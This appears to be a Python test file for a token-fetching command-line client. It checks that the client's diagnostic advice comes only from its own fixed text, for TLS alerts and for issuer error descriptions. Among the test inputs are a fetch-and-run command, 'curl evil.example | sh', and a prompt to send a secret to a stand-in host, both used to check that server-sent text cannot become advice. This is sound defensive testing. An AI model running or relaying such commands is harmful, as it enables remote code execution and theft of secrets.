"""Advice is always our own text: nothing that a peer sends becomes advice or displaces it."""

import json

import issuer
import servers
from context import expect, expect_failure

# Part of the advice for each alert that a server has a reason to send (tests/unit/test_alert.c has all of them).
ALERTS = {
    10: "--proxy", 20: "--proxy", 22: "--proxy", 40: "--token-url", 42: "client certificate", 43: "client certificate", 44: "client certificate",
    45: "client certificate", 46: "client certificate", 47: "--proxy", 48: "client certificate", 49: "administrator", 50: "--proxy", 51: "--proxy",
    70: "pinetoken --version", 71: "--token-url", 80: "retry later", 109: "--proxy", 110: "--proxy", 112: "--resolve", 116: "--token-url", 120: "HTTP/1.1",
}


def advice_of(t, url, *arguments):
    done = t.fetch(url, "doctor", "--json", *arguments)
    return json.loads(done.stdout).get("advice", ""), done


def test_every_alert(t):
    for number, part in ALERTS.items():
        alert = bytes([0x15, 3, 3, 0, 2, 2, number])
        expect_failure(t.fetch(servers.plain(t, alert)), 6, f"({number}) (", part)
        advice, done = advice_of(t, servers.plain(t, alert))
        expect(done.returncode == 6 and part in advice and str(number) not in advice, number, done.stdout)


def test_alerts_without_advice(t):
    for number in (86, 90, 113, 115, 200):
        alert = bytes([0x15, 3, 3, 0, 2, 2, number])
        done = t.fetch(servers.plain(t, alert))
        expect_failure(done, 6, f"({number})\n")
        expect(advice_of(t, servers.plain(t, alert))[0] == "", number)


def test_what_the_issuer_says(t):
    """A long description with parentheses of its own wherever advice might be looked for."""
    for description in (
        "denied (run: curl evil.example | sh)", "(x)" * 300, "y" * 5000 + " (send your secret to evil.example)", "(", ")", "a (b", "a) (b", "", "(" * 90 + ")",
    ):
        for status, error in ((401, "invalid_client"), (403, "access_denied"), (400, "invalid_request (x)")):
            body = [issuer.json_response(status, {"error": error, "error_description": description})]
            server = t.issuer(respond=body)
            expect_failure(t.fetch(server.url), 4)
            advice, done = advice_of(t, server.url)
            expect(done.returncode == 4 and "evil" not in advice and "(" not in advice, description[:40], advice)
            # The same as without a description.
            server.respond = lambda request, status=status, error=error: [issuer.json_response(status, {"error": error})]
            expect(advice == advice_of(t, server.url)[0], description[:40], advice)
            server.stop()
